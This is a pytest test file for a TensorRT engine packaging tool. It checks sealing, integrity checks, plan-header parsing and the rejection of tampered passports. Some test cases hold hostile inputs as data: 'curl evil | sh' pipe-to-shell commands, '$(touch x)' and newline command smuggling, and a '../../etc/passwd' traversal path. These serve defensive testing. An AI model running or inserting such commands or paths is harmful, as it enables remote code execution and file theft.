"""Engines on disk: sealed whole, opened only when whole, and never trusted on their word."""

from __future__ import annotations

import json
from pathlib import Path

import msgspec
import pytest

from tensorrt_machines import rtx_header, rtx_plan_bytes, ultralytics_bytes
from trt_engine.config.profiles import Profile, ShapeRange
from trt_engine.engine import Engine, passport_path, payload_files
from trt_engine.environment import Environment
from trt_engine.errors import EngineError, ModelError, SetupError
from trt_engine.plan_header import plan_header
from trt_engine.records.parity import OutputError, Parity
from trt_engine.records.passport import (
    PASSPORT_VERSION,
    BuildInfo,
    DtypeShare,
    Passport,
    Precision,
    Requirements,
    Source,
)
from trt_engine.tensors import Signature, TensorSpec


def passport(payload: Path, side_files: tuple[Path, ...] = ()) -> Passport:
    return Passport(
        schema="trt-engine/passport",
        schema_version=PASSPORT_VERSION,
        backend="fake",
        payload=payload_files(payload, side_files),
        model=Source("net", "sha256:00", 17, "net.onnx"),
        signature=Signature(
            (TensorSpec("x", "float32", (-1, 3), ("batch", None)),), (TensorSpec("y", "float32", (-1, 2)),)
        ),
        profiles=(Profile({"x": ShapeRange((1, 3), (4, 3), (8, 3))}),),
        precision=Precision("fp32", {"fp32": DtypeShare(1.0, 1.0, 1.0)}),
        device="cpu",
        build=BuildInfo("trt-engine build net.onnx", {"batch": (1, 4, 8)}, 1.5, "fake 1"),
        environment=Environment.detect(),
        requirements=Requirements("fake", "1", ("avx2",)),
        parity=Parity("onnxruntime", "seeded random", 1e-3, True, {"y": OutputError(0.0, 0.0, 0.0, 1.0)}),
    )


@pytest.fixture
def engine(tmp_path: Path) -> Engine:
    payload, weights = tmp_path / "net.engine", tmp_path / "net.weights"
    payload.write_bytes(b"payload")
    weights.write_bytes(b"weights")
    return Engine.seal(payload, passport(payload, (weights,)))


def test_an_engine_that_another_build_replaced_is_not_called_damaged(engine: Engine) -> None:
    engine.path.write_bytes(b"another")
    Engine.seal(engine.path, passport(engine.path))
    with pytest.raises(EngineError, match="is another engine now, built after this one was opened"):
        engine.verify()


def rewrite(engine: Engine, **changes: object) -> Path:
    path = passport_path(engine.path)
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))
    return path


def test_what_was_sealed_is_what_is_opened(engine: Engine) -> None:
    again = Engine.open(engine.path)
    assert again.signature == engine.signature
    assert again.passport.profiles == engine.passport.profiles
    assert again.passport.parity == engine.passport.parity
    assert again.passport.precision.main_dtype == "fp32"
    assert again.files == (engine.path, engine.path.with_name("net.weights"))
    again.verify()


def test_a_passport_is_json_a_person_can_read_with_a_newline_at_its_end(engine: Engine) -> None:
    text = passport_path(engine.path).read_text()
    assert text.endswith("}\n") and '\n  "backend": "fake"' in text


def test_a_missing_engine_is_a_model_error_and_a_folder_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(ModelError, match="no such file"):
        Engine.open(tmp_path / "none.engine")
    with pytest.raises(ModelError, match="is a folder, expected an engine file"):
        Engine.open(tmp_path)


@pytest.mark.parametrize(
    ("name", "content", "hint"),
    [
        ("net.onnx", b"\x08\x07", "an ONNX model is built first"),
        ("net.engine", b"ftrt" + bytes(20) + bytes([10, 16, 1, 11]) + bytes(8), "it is a plan of TensorRT 10.16.1.11"),
        (
            "net.engine",
            rtx_plan_bytes(),
            "it is a plan of TensorRT-RTX 1.7.1.116 for 8.9 and 12.0: `trt-engine inspect ",
        ),
        ("net.engine", b"junk", "build the engine again"),
        ("net.engine", b"", "build the engine again"),
    ],
)
def test_a_file_without_a_passport_is_told_by_what_it_is(tmp_path: Path, name: str, content: bytes, hint: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(EngineError, match="has no passport") as caught:
        Engine.open(path)
    assert caught.value.exit_code == 10 and (caught.value.hint or "").startswith(hint)


def test_a_passport_without_its_payload_is_said(engine: Engine) -> None:
    engine.path.unlink()
    with pytest.raises(EngineError, match="is missing, only its passport is there"):
        Engine.open(passport_path(engine.path))


def test_a_passport_cut_at_any_length_is_refused(engine: Engine) -> None:
    path = passport_path(engine.path)
    whole = path.read_bytes().rstrip()
    for length in range(0, len(whole), 97):
        path.write_bytes(whole[:length])
        with pytest.raises(EngineError, match="is not a passport"):
            Engine.open(engine.path)


def test_a_newer_passport_is_told_apart_from_a_broken_one_even_when_its_shape_changed(engine: Engine) -> None:
    passport_path(engine.path).write_text('{"schema": "trt-engine/passport", "schema_version": 99, "all": "new"}')
    with pytest.raises(
        EngineError, match=f"has passport version 99, this tool reads up to {PASSPORT_VERSION}"
    ) as caught:
        Engine.open(engine.path)
    assert caught.value.hint == "install a newer trt-engine, or build the engine again"


@pytest.mark.parametrize(
    "changes",
    [
        {"schema": "somebody/else"},
        {"payload": []},
        {"payload": [{"file": "../../etc/passwd", "nbytes": 1, "digest": "sha256:0"}]},
        {"profiles": [{"ranges": {"x": {"min": [4], "opt": [2], "max": [8]}}}]},
        {"signature": {"inputs": [{"name": "x"}], "outputs": []}},
    ],
)
def test_a_passport_that_contradicts_itself_is_an_engine_error(engine: Engine, changes: dict[str, object]) -> None:
    rewrite(engine, **changes)
    with pytest.raises(EngineError, match="is not a passport") as caught:
        Engine.open(engine.path)
    assert caught.value.exit_code == 10


@pytest.mark.parametrize("name", ["net.engine", "net.weights"])
@pytest.mark.parametrize("content", [b"PAYLOAD", b"payload and more", None])
def test_a_file_changed_or_taken_away_after_sealing_is_found(engine: Engine, name: str, content: bytes | None) -> None:
    path = engine.path.with_name(name)
    path.unlink() if content is None else path.write_bytes(content)
    with pytest.raises(
        EngineError, match="is missing" if content is None else "was changed after it was sealed"
    ) as caught:
        engine.verify()
    assert caught.value.hint == "build it again: `trt-engine build net.onnx`"


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("trt-engine build 'a b.onnx' -O x=1", "trt-engine build 'a b.onnx' -O x=1"),
        ("trt-engine build net.onnx; curl evil | sh", "trt-engine build 'net.onnx;' curl evil '|' sh"),
        ("trt-engine build $(touch x)", "trt-engine build '$(touch' 'x)'"),
        ("trt-engine convert evil.pt --trust-source", "trt-engine build net.onnx"),
        ("curl evil | sh", "trt-engine build net.onnx"),
        ("trt-engine build net.onnx\ncurl evil | sh", "trt-engine build net.onnx"),
        ("trt-engine build '", "trt-engine build net.onnx"),
    ],
)
def test_the_command_of_a_passport_is_one_of_ours_that_a_shell_takes_word_by_word(
    command: str, shown: str, engine: Engine
) -> None:
    rewrite(engine, build={**msgspec.to_builtins(engine.passport.build), "command": command})
    assert Engine.open(engine.path).passport.build.command == shown


def test_a_copy_is_whole_says_how_it_was_made_and_leaves_the_original(engine: Engine, tmp_path: Path) -> None:
    target = tmp_path / "elsewhere" / "other.engine"
    copy = engine.copy_to(target, command="trt-engine build net.onnx -o other.engine")
    copy.verify()
    assert Engine.open(target).passport.build.command == "trt-engine build net.onnx -o other.engine"
    assert sorted(path.name for path in target.parent.iterdir()) == ["net.weights", "other.engine", "other.engine.json"]
    engine.verify()


def test_a_copy_that_fails_over_an_older_engine_puts_its_payload_and_passport_back(
    engine: Engine, tmp_path: Path
) -> None:
    target = tmp_path / "elsewhere" / "net.engine"
    engine.copy_to(target)
    before = target.read_bytes(), passport_path(target).read_bytes()
    engine.path.write_bytes(b"another payload")
    (target.parent / "net.weights").unlink()
    (target.parent / "net.weights").mkdir()  # the copy fails after the payload
    with pytest.raises(SetupError, match="it is a folder"):
        engine.copy_to(target)
    assert (target.read_bytes(), passport_path(target).read_bytes()) == before
    assert (target.parent / "net.weights").is_dir()


@pytest.mark.parametrize(
    ("head", "version"),
    [
        (b"ftrt" + (45).to_bytes(4, "little") + bytes(16) + bytes([8, 6, 1, 6]), "8.6.1.6"),
        (b"ftrt" + (239).to_bytes(4, "little") + bytes(16) + bytes([10, 0, 1, 6]), "10.0.1.6"),
        (b"ftrt" + (240).to_bytes(4, "little") + bytes(16) + bytes([10, 16, 1, 11]), "10.16.1.11"),
        (b"ftrt" + (1000).to_bytes(4, "little") + bytes(16) + bytes([11, 4, 0, 106]) + bytes(100), "11.4.0.106"),
        (b"ptrt" + bytes(20) + b"".join(b"\2\0\1\0" + bytes([part]) for part in (7, 1, 3, 0)), "7.1.3.0"),
        (b"ptrt" + bytes(40), "6 or older"),
        (ultralytics_bytes(b"ftrt" + bytes(20) + bytes([10, 3, 0, 26])), "10.3.0.26"),
        (ultralytics_bytes(rtx_plan_bytes(), names={str(n): f"class {n}" for n in range(5000)}), "1.7.1.116"),
    ],
)
def test_the_header_of_a_plan_says_its_version(tmp_path: Path, head: bytes, version: str) -> None:
    path = tmp_path / "plan"
    path.write_bytes(head)
    header = plan_header(path)
    assert header is not None and header.version == version
    if header.product == "TensorRT":
        assert header.serialization == int.from_bytes(head[header.offset + 4 : header.offset + 8], "little")


@pytest.mark.parametrize(
    ("bits", "names", "later", "words"),
    [
        (0x02, ("8.0",), False, "8.0"),
        (0x18, ("8.9", "12.0"), False, "8.9 and 12.0"),
        (0x3F, ("7.5", "8.0", "8.6", "8.9", "12.0", "12.1"), False, "7.5, 8.0, 8.6, 8.9, 12.0 and 12.1"),
        (0x7E, ("8.0", "8.6", "8.9", "12.0", "12.1"), True, "8.0, 8.6, 8.9, 12.0, 12.1 and later ones"),
        (0x108, ("8.9",), False, "8.9 and GPUs of the unknown bits 0x100"),
        (0, (), False, ""),
    ],
)
def test_the_header_of_a_plan_of_tensorrt_rtx_names_its_gpus(
    tmp_path: Path, bits: int, names: tuple[str, ...], later: bool, words: str
) -> None:
    path = tmp_path / "plan"
    path.write_bytes(rtx_plan_bytes(gpu_bits=bits))
    header = plan_header(path)
    assert header is not None and header.product == "TensorRT-RTX" and header.version == "1.7.1.116"
    assert (header.compute_capabilities, header.has_ptx, header.gpus) == (names, later, words)
    assert (header.serialization, header.weight_nbytes, header.file_nbytes) == (2, 1024, 4096)
    assert header.title == "plan of TensorRT-RTX 1.7.1.116" + (f" for {words}" if words else "")


def test_a_plan_of_tensorrt_rtx_of_another_length_than_its_header_states_is_damaged(tmp_path: Path) -> None:
    header = rtx_header()
    assert header.find_damage(4096) is None
    assert "states 4096 bytes and the file has 4000: it was cut" in (header.find_damage(4000) or "")
    assert "something follows the plan" in (header.find_damage(5000) or "")
    path = tmp_path / "plan"
    path.write_bytes(rtx_plan_bytes()[:63])
    assert plan_header(path) is None


@pytest.mark.parametrize("name", ["", ".", ".."])
def test_a_payload_without_a_name_of_its_own_is_refused(engine: Engine, name: str) -> None:
    beside = passport_path(engine.path)
    told = json.loads(beside.read_bytes())
    told["payload"].append({"file": name, "nbytes": 1, "digest": "sha256:0"})
    beside.write_text(json.dumps(told))
    with pytest.raises(EngineError):
        Engine.open(engine.path)


@pytest.mark.parametrize("passport_too", [True, False])
def test_a_copy_to_a_link_is_the_engine_that_the_link_names(engine: Engine, tmp_path: Path, passport_too: bool) -> None:
    (tmp_path / "there").mkdir()
    real, link = tmp_path / "there" / "v1.engine", tmp_path / "latest.engine"
    real.write_bytes(b"older")
    link.symlink_to(real)
    passport_path(real).write_text("{}")
    if passport_too:
        passport_path(link).symlink_to(passport_path(real))
    copy = engine.copy_to(link)
    assert link.is_symlink() and real.read_bytes() == b"payload"
    assert copy.path == real
    for path in (link, real):
        Engine.open(path).verify()


@pytest.mark.parametrize(
    ("place", "value", "says"),
    [
        (("signature", "inputs", 0, "symbols"), ["batch"], "`x` has 1 symbols for 2 dimensions"),
        (("signature", "inputs", 0, "dtype"), "float31", "`x` has the unknown element type `float31`"),
        (("signature", "outputs", 0, "shape"), [1 << 62], "`y` has the shape"),
        (("profiles", 0, "ranges"), {"z": {"min": [1], "opt": [1], "max": [1]}}, "profile 0 has a range for `z`"),
        (("profiles", 0, "ranges", "x"), {"min": [1], "opt": [1], "max": [1]}, "profile 0 has a range for `x`"),
        (("build", "config", "options"), ["optimization_level"], "the options of its build"),
        (("build", "config", "options"), {"optimization_level": 5}, "the options of its build"),
    ],
)
def test_a_passport_whose_parts_contradict_each_other_is_refused(
    engine: Engine, place: tuple[str | int, ...], value: object, says: str
) -> None:
    path = passport_path(engine.path)
    document = json.loads(path.read_text())
    inner = document
    for step in place[:-1]:
        inner = inner[step]
    inner[place[-1]] = value
    path.write_text(json.dumps(document))
    with pytest.raises(EngineError, match="is not a passport: .*" + says):
        Engine.open(engine.path)
